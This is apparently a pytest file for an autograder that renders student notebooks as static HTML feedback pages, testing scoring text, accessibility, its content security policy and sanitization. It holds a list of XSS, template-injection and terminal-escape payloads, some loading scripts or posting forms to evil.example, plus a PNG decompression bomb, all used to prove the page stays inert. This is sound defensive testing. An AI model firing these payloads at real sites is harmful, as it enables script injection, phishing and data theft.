"""The feedback page: what it says, what it keeps to itself, and that nothing on it is alive."""

from __future__ import annotations

import base64
import dataclasses
import re
from pathlib import Path
from typing import Any

import pictures
import pytest
from bs4 import BeautifulSoup

from autograder.model import (
    Cell,
    CellError,
    CheckResult,
    Execution,
    Fingerprint,
    Judgement,
    Manifest,
    NotGradable,
    Outcome,
    ReleasedCell,
    Report,
    Role,
    Status,
    Submission,
    Task,
    TaskScore,
    task_score,
)
from autograder.report.clean import inert_html, picture, plain
from autograder.report.feedback import feedback_page
from autograder.report.markup import markdown, sentence
from autograder.report.outputs import Room, shown

Output = dict[str, Any]
TEST_CODE = 'assert double(2) == 4, "double(2) is 4"'


def display(**data: str) -> Output:
    """A notebook output that holds the same thing in several forms, called by short names."""
    names = {
        "png": "image/png",
        "jpeg": "image/jpeg",
        "svg": "image/svg+xml",
        "html": "text/html",
        "text": "text/plain",
    }
    return {"output_type": "display_data", "data": {names.get(k, k): v for k, v in data.items()}, "metadata": {}}


def stream(text: str, name: str = "stdout") -> Output:
    return {"output_type": "stream", "name": name, "text": text}


MANIFEST = Manifest(
    assignment="numbers",
    title="Numbers",
    notebook="numbers.ipynb",
    tasks=(Task("times-two", "Twice a number", "double", 4.0), Task("times-three", "Three times", "triple", 6.0)),
    cells=(ReleasedCell("c1", Role.TEST, "code", TEST_CODE, "times-two-test", "times-two"),),
)
CHECKS = (
    CheckResult("The visible test", Outcome.PASSED, 0.0, visible=True),
    CheckResult("Small numbers", Outcome.PASSED),
    CheckResult("Negative numbers", Outcome.FAILED, 3.0, message="double(-1) gave `2`, not -2", hint="Mind the sign."),
)
OTHER = (
    CheckResult("Zero", Outcome.NOT_ATTEMPTED, message="The stub is there.", hint="Add, or multiply."),
    CheckResult("One", Outcome.NOT_ATTEMPTED, message="The stub is there.", hint="Add, or multiply."),
    CheckResult("On a GPU", Outcome.SKIPPED, message="There is none here."),
)
CELLS = (
    Cell(0, Role.TEXT, "markdown", "# Numbers\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
    Cell(1, Role.ANSWER, "code", "def double(x):\n    return abs(2 * x)", "times-two", "times-two"),
    Cell(2, Role.TEST, "code", TEST_CODE, "times-two-test", "times-two"),
    Cell(3, Role.DEMO, "code", "plot()", outputs=(display(png=pictures.picture(), text="<Figure>"),)),
    Cell(4, Role.CODE, "code", "print('mine')", outputs=(stream("what the student had saved"),)),
)


def report(checks: tuple[CheckResult, ...] = CHECKS, other: tuple[CheckResult, ...] = OTHER, **changes: Any) -> Report:
    tasks = (
        TaskScore("times-two", "Twice a number", 4.0, task_score(4.0, checks), checks),
        TaskScore(
            "times-three", "Three times", 6.0, task_score(6.0, other), other, note="Judged with a correct `double`."
        ),
    )
    made = Report(
        notebook="/somewhere/private/numbers.ipynb",
        assignment="numbers",
        student="Ada Lovelace",
        status=Status.GRADED,
        score=sum(task.score for task in tasks),
        max_score=10.0,
        tasks=tasks,
        execution=Execution(seconds=0.4, cells=4, sandbox="full"),
        fingerprint=Fingerprint("sha256:" + "a1" * 32, "sha256:" + "b2" * 32, "sha256:" + "c3" * 32),
    )
    return dataclasses.replace(made, **changes)


def submission(*more: Cell) -> Submission:
    extra = tuple(dataclasses.replace(cell, index=len(CELLS) + i) for i, cell in enumerate(more))
    return Submission(Path("numbers.ipynb"), "numbers", "Ada Lovelace", "sha256:00", CELLS + extra)


def page(
    made: Report | None = None,
    handed_in: Submission | NotGradable | None = None,
    outputs: dict[int, list[Output]] | None = None,
) -> BeautifulSoup:
    judgement = Judgement(made or report(), outputs or {})
    return BeautifulSoup(
        feedback_page(judgement, handed_in or submission(), MANIFEST, course_title="A course"), "html.parser"
    )


def words(soup: BeautifulSoup, selector: str = "body") -> str:
    return " ".join(found.get_text(" ", strip=True) for found in soup.select(selector))


def assert_inert(soup: BeautifulSoup) -> None:
    """Nothing on the page runs, loads, links out or restyles: by element, by attribute, by address."""
    ours = {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "main",
        "footer",
        "section",
        "article",
        "progress",
    }
    plain_tags = {
        "a",
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "div",
        "span",
        "strong",
        "em",
        "code",
        "pre",
        "ul",
        "ol",
        "li",
    }
    table = {"table", "caption", "colgroup", "col", "thead", "tbody", "tfoot", "tr", "th", "td"}
    other = {"img", "b", "i", "s", "del", "sub", "sup", "br", "hr", "blockquote", "dl", "dt", "dd"}
    known = {
        "id",
        "class",
        "aria-label",
        "aria-labelledby",
        "aria-hidden",
        "lang",
        "scope",
        "colspan",
        "rowspan",
        "tabindex",
    }
    for tag in soup.find_all(True):
        assert tag.name in ours | plain_tags | table | other, tag.name
        more = {
            "a": {"href"},
            "img": {"src", "alt"},
            "meta": {"charset", "http-equiv", "content", "name"},
            "progress": {"max", "value"},
        }.get(tag.name, set())
        assert set(tag.attrs) <= known | more, (tag.name, tag.attrs)
        assert tag.name != "a" or str(tag["href"]).startswith("#")
        assert tag.name != "img" or re.match(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/=]+$", str(tag["src"]))
    assert len(soup.find_all("style")) == 1
    assert "url(" not in soup.style.get_text()  # type: ignore[union-attr]
    identifiers = [tag["id"] for tag in soup.find_all(id=True)]
    assert len(identifiers) == len(set(identifiers))


# ── what it says ──────────────────────────────────────────────────────────────────────────────────


def test_the_score_and_the_tasks_stand_at_the_top() -> None:
    soup = page()
    assert words(soup, ".score") == "1 of 10 points"
    assert words(soup, "h1") == "Numbers"
    assert words(soup, ".who") == "Ada Lovelace · numbers.ipynb"
    rows = [words(soup, f".summary tr:nth-of-type({row})") for row in (1, 2)]
    assert "Twice a number 2 of 3 1 of 4" in rows[0]
    assert "Three times 0 of 2 0 of 6" in rows[1]
    assert words(soup, ".summary tfoot") == "Together 1 of 10"


def test_every_check_shows_its_title_outcome_message_and_hint() -> None:
    checks = [found.get_text(" ", strip=True) for found in page().select("#task-1 .checks li")]
    assert checks == [
        "✓ The visible test passed",
        "✓ Small numbers passed",
        "✗ Negative numbers not passed · −3 points double(-1) gave 2 , not -2 Hint: Mind the sign.",  # noqa: RUF001
    ]


def test_a_hint_that_checks_share_is_given_once() -> None:
    assert words(page(), "#task-2").count("Add, or multiply.") == 1


def test_a_skipped_check_says_that_it_does_not_count() -> None:
    assert "On a GPU not run here, not counted There is none here." in words(page(), "#task-2")


def test_the_note_tells_that_a_helper_was_answered_for_the_student() -> None:
    assert words(page(), "#task-2 .note") == "Judged with a correct double ."


@pytest.mark.parametrize("outcome", Outcome)
def test_no_outcome_is_told_by_colour_alone(outcome: Outcome) -> None:
    soup = page(report(checks=(CheckResult("A check", outcome, message="m"),)))
    mark, word = soup.select_one("#task-1 .mark"), soup.select_one("#task-1 .outcome")
    assert mark is not None
    assert word is not None
    assert mark["aria-hidden"] == "true"
    assert mark.get_text()
    assert len(word.get_text(strip=True)) > 5


def test_outcomes_differ_in_their_words() -> None:
    seen = {words(page(report(checks=(CheckResult("A check", o, 0.0),))), "#task-1 .outcome") for o in Outcome}
    assert len(seen) == len(Outcome)


def test_what_the_grader_says_about_its_own_fault_stays_with_staff() -> None:
    secret = CheckResult("A check", Outcome.GRADER_ERROR, message="test_secret.py line 3: assert reference(7) == 42")
    assert "reference(7)" not in words(page(report(checks=(secret,))))
    withheld = page(report(status=Status.GRADER_ERROR, tasks=(), reason="KeyError in test_secret.py"))
    assert "test_secret" not in words(withheld)
    assert "withheld" in words(withheld, ".notice")
    assert not withheld.select(".score")


def test_a_file_that_could_not_be_graded_gets_the_reason_and_what_to_do() -> None:
    reason = "This is a Word document, not a notebook: hand in numbers.ipynb."
    unreadable = NotGradable(Path("numbers.ipynb"), "numbers", "Ada Lovelace", reason)
    soup = page(report(status=Status.NOT_GRADABLE, tasks=(), score=0.0, reason=reason), unreadable)
    assert reason in words(soup, ".notice")
    assert "hand in numbers.ipynb again" in words(soup, ".notice")
    assert words(soup, ".score") == "0 of 10 points"
    assert not soup.select("#notebook")


def test_repairs_flags_and_errors_are_told() -> None:
    errors = (CellError(4, "NameError", "name 'x' is not defined"),)
    made = report(repairs=("One.", "Two."), flags=("Look here.",), execution=Execution(errors=errors, sandbox="full"))
    remarks = words(page(made), ".remark")
    assert all(part in remarks for part in ("One.", "Two.", "Look here.", "Cell 5 raised NameError: name 'x'"))


def test_a_run_without_protection_is_stamped() -> None:
    assert "Not sandboxed" in words(page(report(execution=Execution(sandbox="none"))), ".notice")
    assert not page().select(".notice")


# ── the notebook ──────────────────────────────────────────────────────────────────────────────────


def test_the_notebook_shows_code_with_fresh_outputs_and_saved_pictures() -> None:
    soup = page(outputs={4: [stream("fresh")]})
    assert "return abs(2 * x)" in soup.select_one("#cell-2 pre").get_text()  # type: ignore[union-attr]
    assert "your answer: Twice a number" in words(soup, "#cell-2 .label")
    assert "visible test: passed" in words(soup, "#cell-3 .label")
    assert len(soup.select("#cell-4 img")) == 1
    assert words(soup, "#cell-5 .output") == "fresh"
    assert "what the student had saved" not in words(soup)
    assert [cell.get_text() for cell in soup.select("#cell-1 td")] == ["1", "2"]
    assert_inert(soup)


def test_an_answer_in_a_text_cell_is_shown_as_it_is() -> None:
    cell = Cell(0, Role.ANSWER, "markdown", "def triple(x): *a* <b>", "times-three", "times-three")
    soup = page(handed_in=submission(cell))
    assert "a markdown cell, not run" in words(soup, "#cell-6 .label")
    assert soup.select_one("#cell-6 pre").get_text() == "def triple(x): *a* <b>"  # type: ignore[union-attr]


def test_the_page_is_ordered_for_a_screen_reader() -> None:
    soup = page(report(repairs=("One.",)), submission(Cell(0, Role.TEXT, "markdown", "# Mine\n\n###### deep")))
    assert {"header", "main", "footer"} <= {tag.name for tag in soup.body.find_all(recursive=False)}  # type: ignore[union-attr]
    levels = [int(tag.name[1]) for tag in soup.find_all(re.compile(r"^h[1-6]$"))]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert soup.html["lang"] == "en"  # type: ignore[index]
    assert all(table.caption or table.find_parent(class_="cell") for table in soup.find_all("table"))
    assert all(img["alt"] for img in soup.find_all("img"))
    names = {tag["id"] for tag in soup.find_all(id=True)}
    assert all(tag["aria-labelledby"] in names for tag in soup.select("[aria-labelledby]"))
    assert all(str(tag["href"])[1:] in names for tag in soup.find_all("a"))


def test_pages_for_phones_dark_rooms_and_paper_are_in_the_style_sheet() -> None:
    soup = page()
    css = soup.style.get_text()  # type: ignore[union-attr]
    assert all(query in css for query in ("max-width: 36rem", "prefers-color-scheme: dark", "@media print"))
    assert soup.select_one('meta[name="viewport"]')


def test_the_policy_allows_the_own_style_sheet_and_data_pictures_only() -> None:
    soup = page()
    policy = str(soup.select_one('meta[http-equiv="Content-Security-Policy"]')["content"])  # type: ignore[index]
    import hashlib

    digest = base64.b64encode(hashlib.sha256(soup.style.get_text().encode()).digest()).decode()  # type: ignore[union-attr]
    parts = [
        "default-src 'none'",
        f"style-src 'sha256-{digest}'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ]
    assert policy == "; ".join(parts)


def test_the_path_on_the_graders_machine_is_not_shown() -> None:
    assert "/somewhere/private" not in str(page())


# ── nothing is alive ──────────────────────────────────────────────────────────────────────────────

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script src=//evil.example/x.js></script>",
    "</style><style>*{background:url(//evil.example)}</style>",
    "</pre></section></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe><object data=x></object><embed src=x>",
    "<a href='javascript:alert(1)'>x</a> <a href='data:text/html,x'>y</a> <a href=//evil.example>z</a>",
    "<form action=//evil.example><input name=p><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><link rel=stylesheet href=//e>",
    "<div style='position:fixed;inset:0;background:url(//evil.example)' class=score id=notebook>x</div>",
    "<video src=x onerror=alert(1)></video><audio autoplay></audio><details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea autofocus onfocus=alert(1)></textarea><template><script>x</script></template>",
    "[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHM+) ![i](//evil.example/x.png)",
    "[x](http://a\"onmouseover=alert(1)) <http://a/'onclick=x> [x]: javascript:alert(1)\n[x]",
    "`<script>alert(1)</script>` ``` <script> ```\n```html\n<script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    "{{ 7*7 }}{% raw %}{{ page }}{{ self.__init__.__globals__ }}",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x1b[31m\x00\x08 \ud800 \u202e",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\"><script>alert(1)</script> ' onload='alert(1)",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: ascii(attack)[1:30])
def test_nothing_a_student_wrote_is_alive(attack: str) -> None:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'>{attack}</svg>"
    encoded = base64.b64encode(attack.encode("utf-8", "replace")).decode()
    outputs = [
        stream(attack), stream(attack, "stderr"), display(html=attack), display(html=f"<table><tr><td>{attack}</td></tr></table>"),
        display(svg=svg, text=attack), display(png=attack), display(jpeg=encoded), display(png=encoded, text=attack),
        display(**{"text/markdown": attack}), display(**{"application/javascript": attack}), display(**{attack: attack}),
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": [attack]},
        {"output_type": "error", "ename": attack, "evalue": attack, "traceback": attack},
        {"output_type": attack, "data": attack}, {"output_type": "display_data", "data": attack},
    ]  # fmt: skip
    kinds = [(Role.TEXT, "markdown"), (Role.TEXT, "raw"), (Role.ANSWER, "markdown"), (Role.CODE, "code")]
    cells = [Cell(0, role, kind, attack, attack, attack) for role, kind in kinds]
    demo = Cell(0, Role.DEMO, "code", attack, outputs=tuple(outputs))
    checks = (
        CheckResult("A check", Outcome.FAILED, message=attack, hint=attack),
        CheckResult(attack, Outcome.STUDENT_ERROR),
    )
    errors = (CellError(4, attack, attack),)
    made = report(
        checks,
        student=attack,
        notebook=attack,
        repairs=(attack, attack),
        flags=(attack,),
        execution=Execution(errors=errors, sandbox=attack),
        fingerprint=Fingerprint(attack, attack, attack),
    )
    judgement = Judgement(made, {4: outputs, 8: outputs})
    html = feedback_page(judgement, submission(*cells, demo), MANIFEST, course_title="A course")
    html.encode()
    assert_inert(BeautifulSoup(html, "html.parser"))
    unreadable = report(status=Status.NOT_GRADABLE, tasks=(), reason=attack, student=attack)
    assert_inert(page(unreadable))


def test_the_test_of_inertness_can_fail() -> None:
    soup = page()
    soup.body.append(BeautifulSoup("<p onclick=x>", "html.parser"))  # type: ignore[union-attr]
    with pytest.raises(AssertionError):
        assert_inert(soup)


def test_a_table_keeps_its_cells_and_loses_everything_else() -> None:
    html = "<style>td{}</style><table border=1 class=dataframe><tr style='x'><td colspan=2 onclick=x>0.5<script>1</script></td></tr></table>"
    assert inert_html(html) == '<table><tbody><tr><td colspan="2">0.5</td></tr></tbody></table>'


def test_links_and_pictures_in_text_become_words() -> None:
    assert markdown("[a *b*](https://x.example/?a=1&b=2)") == "<p>a <em>b</em> (https://x.example/?a=1&amp;b=2)</p>\n"
    assert markdown("<https://x.example>") == "<p>https://x.example</p>\n"
    assert markdown("![a cat](https://x.example/c.png)") == "<p><em>[picture: a cat]</em></p>\n"
    assert markdown("[![Open](https://x.example/b.svg)](https://x.example)") == "<p>Open (https://x.example)</p>\n"


def test_mathematics_stays_as_it_was_typed() -> None:
    assert markdown("so $x_1 * y_1 * z$ and $5") == "<p>so <code>x_1 * y_1 * z</code> and $5</p>\n"
    assert "<code>\\frac{a}{b}_i</code>" in markdown("$$\n\\frac{a}{b}_i\n$$")


def test_backticks_in_a_sentence_make_code_and_nothing_else() -> None:
    assert sentence("`a<b` & `c") == "<code>a&lt;b</code> &amp; `c"


def test_text_is_what_a_terminal_would_leave_standing() -> None:
    assert plain("\x1b[1;31mred\x1b[0m\x07") == "red"
    assert plain("10%\r50%\r100%\ndone\r\n") == "100%\ndone\n"
    assert "\x1b" not in plain("\x1b]0;title\x07 \x1b[ \x1b")


@pytest.mark.parametrize("kind", ["PNG", "JPEG"])
def test_a_real_picture_is_shown(kind: str) -> None:
    mime, encoded = f"image/{kind.lower()}", pictures.picture(kind)
    assert picture(encoded[:20] + "\n" + encoded[20:], mime) == f"data:{mime};base64,{encoded}"


BOMB = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\x00\x00\x00" + b"\x00" * 50
NO_PICTURES = {
    "a PNG called JPEG": (pictures.picture("PNG"), "image/jpeg"),
    "a JPEG called PNG": (pictures.picture("JPEG"), "image/png"),
    "a PNG called SVG": (pictures.picture("PNG"), "image/svg+xml"),
    "a GIF": (pictures.picture("GIF"), "image/png"),
    "an attribute": (pictures.picture("PNG") + '" onload="x', "image/png"),
    "an SVG": (base64.b64encode(b"<svg/>").decode(), "image/png"),
    "only the first bytes": (base64.b64encode(b"\x89PNG\r\n\x1a\n<script>").decode(), "image/png"),
    "a JPEG without a frame": (base64.b64encode(b"\xff\xd8\xff" + b"\xff" * 40).decode(), "image/jpeg"),
    "3.6 billion pixels": (base64.b64encode(BOMB).decode(), "image/png"),
    "too many bytes": ("A" * 10_000_000, "image/png"),
    "no base64": ("é", "image/png"),
    "nothing": ("", "image/png"),
}


@pytest.mark.parametrize("name", NO_PICTURES)
def test_what_is_no_picture_or_too_large_a_picture_is_not_shown(name: str) -> None:
    assert picture(*NO_PICTURES[name]) == ""


def test_a_picture_that_cannot_be_shown_gives_way_to_its_words() -> None:
    assert [item.content for item in shown([display(png="no", text="<Figure>")], Room())] == ["<Figure>"]
    assert [item.kind for item in shown([display(svg="<svg/>")], Room())] == ["note"]


def test_huge_output_is_cut_and_the_page_stays_small() -> None:
    outputs = [stream("x" * 1_000_000), display(html="<div>" * 200_000), display(text="y" * 1_000_000)] * 40
    demos = [Cell(0, Role.DEMO, "code", "z = 1\n" * 50_000, outputs=tuple(outputs)) for _ in range(200)]
    html = feedback_page(Judgement(report(), {4: outputs}), submission(*demos), MANIFEST, course_title="A course")
    assert len(html) < 3_000_000
    assert "characters left out" in html
    assert "More was left out" in html


def test_a_stream_of_many_pieces_is_one_output() -> None:
    assert [item.content for item in shown([stream("a\n"), stream("b\n")] * 500, Room())] == ["a\nb\n" * 500]
